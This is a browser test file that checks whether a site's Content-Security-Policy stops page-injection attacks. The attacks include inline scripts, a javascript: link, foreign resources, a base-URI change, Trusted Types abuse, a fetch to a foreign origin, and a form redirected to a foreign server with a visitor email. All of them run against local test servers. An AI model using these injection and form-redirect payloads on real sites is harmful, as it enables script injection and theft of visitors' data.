import type { Page } from "playwright-core";
import { expect, onTestFinished, test } from "vitest";
import { securityHeaders } from "../../pages/hosting/headers.ts";
import { describeInBrowser, nextPaint, type OpenOptions } from "../support/browser.ts";
import { serveFiles } from "../support/server.ts";

const mark = "document.documentElement.dataset.attacked = ''";

type Act = (foreign: string) => unknown;

/**
 * Attacks by somebody who can write into the page, with the directive that stops each: an element
 * that is added and clicked, or a function that is called with the address of another server.
 */
const attacks: Record<string, [directive: string, Record<string, string> | Act]> = {
  "an inline script": ["script-src-elem", { tag: "script", text: mark }],
  "an event handler in the markup": ["script-src-attr", { tag: "button", onclick: mark }],
  "a javascript: link": ["script-src-elem", { tag: "a", href: `javascript:void (${mark})` }],
  "a foreign script": ["script-src-elem", { tag: "script", src: "FOREIGN/a.js" }],
  "a foreign style sheet": [
    "style-src-elem",
    { tag: "link", rel: "stylesheet", href: "FOREIGN/a.css" },
  ],
  "a foreign picture": ["img-src", { tag: "img", src: "FOREIGN/a.png" }],
  "a foreign frame": ["frame-src", { tag: "iframe", src: "FOREIGN/" }],
  "a foreign object": ["object-src", { tag: "object", data: "FOREIGN/" }],
  "a base address": ["base-uri", { tag: "base", href: "FOREIGN/" }],
  "an inline style sheet": ["style-src-elem", { tag: "style", text: "h1 { opacity: 0.5 }" }],
  "a style attribute": [
    "style-src-attr",
    () => document.querySelector("h1")?.setAttribute("style", "opacity: 0.5"),
  ],
  "a foreign request": ["connect-src", (foreign) => fetch(foreign, { mode: "no-cors" })],
  "markup made of a text": [
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<p>Attacked</p>";
      document.documentElement.dataset.attacked = "";
    },
  ],
  "a policy that trusts any text": [
    "trusted-types",
    () => {
      // Not yet among TypeScript's own types.
      const { trustedTypes } = window as { trustedTypes?: { createPolicy(name: string): object } };
      trustedTypes?.createPolicy("attack");
      document.documentElement.dataset.attacked = "";
    },
  ],
  "a foreign form target": [
    "form-action",
    (foreign) => {
      const form = document.querySelector("form");
      const email = document.querySelector<HTMLInputElement>("[type='email']");
      if (!form || !email) return;
      form.action = `${foreign}/attack`;
      email.value = "visitor@example.com";
      form.requestSubmit();
    },
  ],
};

function addElement({ foreign = "", tag = "", text = "", ...attributes }: Record<string, string>) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes))
    element.setAttribute(name, value.replace("FOREIGN", foreign));
  element.append(text);
  document.body.append(element);
  element.click();
}

/** Whether a script, style or base address of an attack has taken effect. */
function isAttacked(): boolean {
  const headline = document.querySelector("h1");
  const isFaded = headline !== null && getComputedStyle(headline).opacity === "0.5";
  const isMoved = new URL(document.baseURI).origin !== location.origin;
  return "attacked" in document.documentElement.dataset || isFaded || isMoved;
}

/** Opens pages like a browser without Trusted Types. */
const forgetTrustedTypes = (page: Page) =>
  page.route("**/", async (route) => {
    const response = await route.fetch();
    const markup = await response.text();
    await route.fulfill({ response, body: markup.replace(/; require-trusted-types[^"]+/, "") });
  });

describeInBrowser(
  "the page's own policy",
  (site) => {
    /**
     * Tries attacks one after the other, and expects each to be stopped by its directive, or to work.
     * One that works may leave the page or spoil it, so each has a new one.
     */
    async function tryAttacks(
      shouldStop: boolean,
      options: OpenOptions,
      tried = Object.entries(attacks),
    ) {
      const page = await site.open(options);
      for (const [name, [directive, attack]] of tried) {
        // Its own origin and its own files, none of which the page may ask for.
        const foreign = await site.serve({});
        await page.goto(site.server.base);
        await page.evaluate(() => {
          addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            document.documentElement.dataset.violated ??= effectiveDirective;
          });
        });
        const attempt =
          typeof attack === "function"
            ? page.evaluate(attack, foreign.base)
            : page.evaluate(addElement, { ...attack, foreign: foreign.base });
        // A stopped attack may throw, and one that leaves the page cannot answer.
        await attempt.catch(() => {});
        if (shouldStop) {
          const readViolation = () => page.locator(":root").getAttribute("data-violated");
          await expect.poll(readViolation, { message: name }).toBe(directive);
          await nextPaint(page);
        }
        const isDone = async () => foreign.requests.length > 0 || page.evaluate(isAttacked);
        await expect.poll(isDone, { message: name }).toBe(!shouldStop);
      }
    }

    test("is needed: without it every attack works", () => tryAttacks(false, { bypassCSP: true }));

    // Trusted types alone would stop most attacks, but not every browser knows them.
    const [others, aboutTypes] = [false, true].map((isWanted) =>
      Object.entries(attacks).filter(([, [name]]) => /trusted-types/.test(name) === isWanted),
    );

    test("stops texts that become markup", () => tryAttacks(true, {}, aboutTypes));

    test("stops every other attack, in a browser without trusted types, too", () =>
      tryAttacks(true, { beforeLoad: forgetTrustedTypes }, others));

    test("leaves a page of public/ its own styles and scripts", async () => {
      const markup =
        "<style>p { opacity: 0.5 }</style><p>Hi</p><script>document.title = 1</script>";
      const files = new Map([["index.html", Buffer.from(markup)]]);
      const headersOf = () => Object.fromEntries(securityHeaders);
      const server = await serveFiles(files, { headersOf });
      onTestFinished(server.close);
      const page = await site.open({ server });
      expect(await page.title()).toBe("1");
      const readOpacity = (element: Element) => getComputedStyle(element).opacity;
      expect(await page.locator("p").evaluate(readOpacity)).toBe("0.5");
    });
  },
  // A small window is painted in less time.
  { reducedMotion: "reduce", viewport: { width: 320, height: 240 } },
);
